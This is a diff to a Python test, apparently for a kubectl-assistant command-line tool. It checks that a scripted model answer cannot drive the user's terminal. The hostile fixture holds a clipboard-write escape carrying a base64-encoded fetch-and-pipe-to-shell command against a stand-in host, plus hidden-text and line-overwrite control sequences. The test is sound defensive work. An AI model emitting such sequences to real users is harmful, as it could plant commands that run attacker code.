@@ -290,9 +290,10 @@ def test_piped_input_through_a_real_pipe_without_a_model(fake_kubectl: FakeKubec
 
 def test_the_answer_cannot_drive_the_terminal(cli_env: Path, fake_kubectl: FakeKubectl,
                                               capsys: pytest.CaptureFixture[str]) -> None:
-    hostile = "Fixed.\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[8mhidden\x1b[0m\r\nok"
+    hostile = "Fixed.\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[8mhidden\x1b[0m\rok\r\nend"
     with serve(ScriptedModel([hostile])):
         assert main(["--config", str(cli_env), "ask", "is web fine?"]) == OK
     out = capsys.readouterr().out
     assert "\x1b" not in out and "\x07" not in out and "\r" not in out
-    assert out.startswith("Fixed.\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[8mhidden\\x1b[0m\\x0d\nok")
+    # a bare CR (which would overwrite the line) is spelled out; a CRLF line ending prints as a newline
+    assert out.startswith("Fixed.\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[8mhidden\\x1b[0m\\x0dok\nend")
